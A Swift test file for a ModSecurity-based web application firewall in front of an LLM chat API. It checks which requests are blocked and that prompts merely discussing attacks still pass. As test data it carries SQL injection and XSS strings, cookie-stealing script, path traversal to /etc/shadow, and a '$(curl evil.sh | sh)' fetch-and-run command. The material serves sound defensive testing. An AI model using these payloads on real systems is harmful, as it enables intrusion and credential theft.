import Config
import Foundation
import Synchronization
import Testing
@testable import WAF

/// Engines are expensive to build (the whole CRS is parsed), so the suite builds each
/// configuration once and runs serially: a gateway worker never runs two inspections at
/// once either.
enum Engines {
    static let pl1 = build(WAFConfig(enabled: true))
    static let pl4 = build(WAFConfig(enabled: true, paranoiaLevel: 4))
    static let lenient = build(WAFConfig(enabled: true, anomalyThreshold: 100))
    static let detect = build(WAFConfig(enabled: true, mode: .detect))
    static let excluding = build(WAFConfig(enabled: true, excludeRuleIDs: [941100, 941110, 941160], excludeArgs: ["json.note", "/^json\\.meta\\./"]))

    /// A build failure fails every test that uses the engine (with ModSecurity's message),
    /// instead of crashing the test process.
    static func build(_ config: WAFConfig) -> Result<WAFEngine, WAFError> {
        Result { () throws(WAFError) in try WAFEngine(config: config) }
    }
}

func chat(_ content: String, extra: String = "") -> String {
    "{\"model\":\"gpt-4o-mini\",\"messages\":[{\"role\":\"user\",\"content\":\(quoted(content))}]\(extra)}"
}

func quoted(_ s: String) -> String {
    String(decoding: try! JSONEncoder().encode(s), as: UTF8.self)
}

extension WAFEngine {
    func check(_ body: String, uri: String = "/v1/chat/completions", headers: [(name: String, value: String)] = []) -> WAFVerdict {
        let all: [(name: String, value: String)] = [
            ("Host", "gateway.local"), ("Content-Type", "application/json"), ("User-Agent", "openai-python/1.54.0"),
            ("Accept", "application/json"), ("Content-Length", String(body.utf8.count)),
        ] + headers
        var body = body
        return body.withUTF8 { bytes in
            inspect(method: "POST", uri: uri, httpVersion: "1.1", headers: all, body: UnsafeRawBufferPointer(bytes),
                    clientAddress: "192.0.2.10", clientPort: 40000)
        }
    }
}

@Suite(.serialized)
struct WAFEngineTests {
    let sqli = "1' OR 1=1--"
    let xss = "<script>alert(1)</script>"

    @Test func harmlessChatPasses() throws {
        #expect(try Engines.pl1.get().check(chat("What is the capital of France?")) == .allow(matched: []))
    }

    @Test func sqlInjectionInTheQueryStringIsBlocked() throws {
        let verdict = try Engines.pl1.get().check(chat("hi"), uri: "/v1/chat/completions?id=1%27%20OR%201%3D1--")
        guard case .block(let status, let rules) = verdict else { Issue.record("not blocked: \(verdict)"); return }
        #expect(status == 403)
        #expect(rules.map(\.id).contains(942100))
        #expect(rules.last?.id == 949110)
        #expect(rules.first { $0.id == 942100 }?.message == "SQL Injection Attack Detected via libinjection")
    }

    @Test func xssInTheQueryStringIsBlocked() throws {
        let verdict = try Engines.pl1.get().check(chat("hi"), uri: "/v1/chat/completions?next=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        #expect(verdict.isBlocked)
        #expect(verdict.rules.map(\.id).contains(941100))
    }

    @Test func sqlInjectionInAHeaderIsBlocked() throws {
        let verdict = try Engines.pl1.get().check(chat("hi"), headers: [("Referer", "https://x.example/?q=\(sqli)")])
        #expect(verdict.isBlocked)
        #expect(verdict.rules.map(\.id).contains(942100))
    }

    @Test func xssInAHeaderIsBlocked() throws {
        let verdict = try Engines.pl1.get().check(chat("hi"), headers: [("User-Agent", xss)])
        #expect(verdict.isBlocked)
        #expect(verdict.rules.map(\.id).contains(941100))
    }

    @Test func injectionInNonPromptJSONFieldsIsBlocked() throws {
        let inUser = try Engines.pl1.get().check(chat("hi", extra: ",\"user\":\(quoted(sqli))"))
        #expect(inUser.isBlocked)
        #expect(inUser.rules.map(\.id).contains(942100))
        let inMetadata = try Engines.pl1.get().check(chat("hi", extra: ",\"metadata\":{\"note\":\(quoted(xss))}"))
        #expect(inMetadata.isBlocked)
        #expect(inMetadata.rules.map(\.id).contains(941100))
    }

    @Test(arguments: [
        "Explain SELECT * FROM users WHERE id = 1 OR 1=1",
        "<script>alert(1)</script>",
        "Why is ' OR 1=1-- dangerous? Show me '; DROP TABLE users; -- and UNION SELECT password FROM users",
        "Fix this: <img src=x onerror=alert(document.cookie)> and javascript:alert(1)",
        "cat /etc/passwd; ../../../../etc/shadow; $(curl evil.sh | sh)",
    ])
    func promptsThatTalkAboutAttacksPass(prompt: String) throws {
        // In every prompt-carrying place the two fronts use, at the highest paranoia level.
        let bodies = [
            chat(prompt),
            "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\(quoted(prompt))}]}]}",
            "{\"model\":\"m\",\"system\":\(quoted(prompt)),\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\",\"tool_use_id\":\"t1\",\"content\":\(quoted(prompt))}]}],\"max_tokens\":10}",
            "{\"model\":\"m\",\"messages\":[{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"c1\",\"type\":\"function\",\"function\":{\"name\":\"sql\",\"arguments\":\(quoted("{\"query\":\(quoted(prompt))}"))}}]}]}",
            "{\"model\":\"m\",\"input\":[\(quoted(prompt))]}",
        ]
        for body in bodies {
            #expect(try Engines.pl1.get().check(body) == .allow(matched: []), "PL1: \(body)")
            // Paranoia 4 flags harmless requests too (e.g. 942432 on "gpt-4o-mini"), so there
            // the prompt must simply make no difference.
            let pl4 = try Engines.pl4.get()
            let harmless = pl4.check(body.replacingOccurrences(of: quoted(prompt), with: "\"hi\""))
            #expect(pl4.check(body).rules.map(\.id) == harmless.rules.map(\.id), "PL4: \(body)")
        }
    }

    @Test func rawJSONBodyRulesDoNotSeeThePrompt() throws {
        // 921110 (request smuggling) and 944xxx (Java) read REQUEST_BODY whole.
        for prompt in ["GET /admin HTTP/1.1\r\nHost: internal", "java.lang.Runtime.getRuntime().exec(\"id\")"] {
            #expect(try Engines.pl1.get().check(chat(prompt)) == .allow(matched: []))
            #expect(try Engines.pl1.get().check(chat("hi", extra: ",\"user\":\(quoted(prompt))")).isBlocked)
        }
    }

    @Test func promptExclusionDoesNotCoverLookalikeFields() throws {
        // `json.messages.array_0.name` is not content: still inspected.
        let body = "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"name\":\(quoted(xss)),\"content\":\"hi\"}]}"
        #expect(try Engines.pl1.get().check(body).isBlocked)
    }

    @Test func paranoiaLevelChangesTheVerdict() throws {
        let uri = "/v1/chat/completions?q=%3Ca%20href%3Dx%3E"
        #expect(try Engines.pl1.get().check(chat("hi"), uri: uri) == .allow(matched: []))
        let pl4 = try Engines.pl4.get().check(chat("hi"), uri: uri)
        #expect(pl4.isBlocked)
        #expect(pl4.rules.map(\.id).contains(941320))
    }

    @Test func anomalyThresholdChangesTheVerdict() throws {
        let uri = "/v1/chat/completions?id=1%27%20OR%201%3D1--"
        #expect(try Engines.pl1.get().check(chat("hi"), uri: uri).isBlocked)
        let lenient = try Engines.lenient.get().check(chat("hi"), uri: uri)
        guard case .allow(let matched) = lenient else { Issue.record("blocked at threshold 100: \(lenient)"); return }
        #expect(matched.map(\.id) == [942100])
    }

    @Test func detectModeNeverBlocksButReportsWhatWouldHave() throws {
        for (uri, extra) in [("/v1/chat/completions?id=1%27%20OR%201%3D1--", ""), ("/v1/chat/completions", ",\"user\":\(quoted(xss))")] {
            let verdict = try Engines.detect.get().check(chat("hi", extra: extra), uri: uri)
            guard case .allow(let matched) = verdict else { Issue.record("detect mode blocked: \(verdict)"); continue }
            #expect(matched.map(\.id).contains(949110))
        }
    }

    @Test func configuredExclusionsApply() throws {
        #expect(try Engines.excluding.get().check(chat("hi", extra: ",\"note\":\(quoted(sqli))")) == .allow(matched: []))
        #expect(try Engines.excluding.get().check(chat("hi", extra: ",\"meta\":{\"a\":\(quoted(sqli))}")) == .allow(matched: []))
        #expect(try Engines.excluding.get().check(chat("hi", extra: ",\"user\":\(quoted(sqli))")).isBlocked)
        // 941100/941110/941160 removed: a plain <script> tag scores too little to block.
        #expect(try Engines.excluding.get().check(chat("hi"), uri: "/v1/chat/completions?next=%3Cscript%3E").isBlocked == false)
        #expect(try Engines.pl1.get().check(chat("hi"), uri: "/v1/chat/completions?next=%3Cscript%3E").isBlocked)
    }

    @Test func malformedJSONIsRefusedByTheBodyProcessor() throws {
        let verdict = try Engines.pl1.get().check("{\"model\":")
        guard case .block(let status, let rules) = verdict else { Issue.record("not blocked: \(verdict)"); return }
        #expect(status == 400)
        #expect(rules.map(\.id) == [200002])
    }

    @Test func manyArgumentsStillParse() throws {
        let messages = (0..<800).map { "{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\"part \($0)\"}]}" }
        #expect(try Engines.pl1.get().check("{\"model\":\"m\",\"messages\":[\(messages.joined(separator: ","))]}") == .allow(matched: []))
    }

    @Test func verdictsCarryNoRequestContent() throws {
        let marker = "zq9marker"
        let verdict = try Engines.pl1.get().check(chat("hi", extra: ",\"user\":\(quoted("\(marker)' OR 1=1--"))"),
                                        uri: "/v1/chat/completions?\(marker)=%3Cscript%3E")
        #expect(verdict.isBlocked)
        #expect(!verdict.rules.contains { $0.message.contains(marker) })
    }

    @Test func missingRulesDirectoryIsAnError() throws {
        #expect(throws: WAFError.rulesNotFound(directory: "/nonexistent")) {
            try WAFEngine(config: WAFConfig(enabled: true, rulesDirectory: "/nonexistent"))
        }
    }

    @Test func engineBuildsAfterAnotherEngine() throws {
        // libmodsecurity 3.0.9 leaks lexer state between parses (see WAFEngine.add(text:)).
        _ = try Engines.pl1.get()
        let second = try WAFEngine(config: WAFConfig(enabled: true, paranoiaLevel: 2, excludeArgs: ["json.a"]))
        #expect(second.check(chat("hi"), uri: "/v1/chat/completions?id=1%27%20OR%201%3D1--").isBlocked)
    }

    @Test func enginesCompiledOnSeveralThreadsAtOnceAllWork() {
        // Unserialized, libmodsecurity's global parser state makes these fail at random lines.
        let results = Mutex<[Result<WAFEngine, WAFError>]>([])
        DispatchQueue.concurrentPerform(iterations: 4) { i in
            let result = Result { () throws(WAFError) in try WAFEngine(config: WAFConfig(enabled: true, paranoiaLevel: 1 + i % 4)) }
            results.withLock { $0.append(result) }
        }
        let built = results.withLock { $0 }
        #expect(built.count == 4)
        for result in built {
            switch result {
            case .success(let engine):
                #expect(engine.check(chat("hi"), uri: "/v1/chat/completions?id=1%27%20OR%201%3D1--").isBlocked)
            case .failure(let error):
                Issue.record("\(error)")
            }
        }
    }

    @Test func extraRulesFileWithoutFinalNewlineIsRefused() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("waf-nonl-\(UUID()).conf").path
        try "SecRule ARGS:probe \"@streq x\" \"id:10001,phase:2,deny,status:403,log,msg:'probe'\"".write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        #expect(throws: WAFError.rules(source: path, message: "the file must end with a newline")) {
            try WAFEngine(config: WAFConfig(enabled: true, extraRulesFile: path))
        }
    }

    @Test func extraRulesFileRulesApply() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("waf-extra-\(UUID()).conf").path
        try "SecRule ARGS:json.user \"@streq banned-user\" \"id:10002,phase:2,deny,status:403,log,msg:'user is banned'\"\n".write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let engine = try WAFEngine(config: WAFConfig(enabled: true, extraRulesFile: path))
        #expect(engine.check(chat("hi", extra: ",\"user\":\"banned-user\"")) == .block(status: 403, rules: [WAFRuleMatch(id: 10002, message: "user is banned")]))
        #expect(engine.check(chat("hi", extra: ",\"user\":\"alice\"")) == .allow(matched: []))
    }

    @Test func badExtraRulesFileNamesTheFile() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("waf-bad-\(UUID()).conf").path
        try "SecRule ARGS \"@rx x\" \"id:1,phase:2,nonsense_action\"\n".write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        do {
            _ = try WAFEngine(config: WAFConfig(enabled: true, extraRulesFile: path))
            Issue.record("a broken rules file was accepted")
        } catch {
            guard case .rules(let source, _) = error else { Issue.record("\(error)"); return }
            #expect(source == path)
        }
    }
}
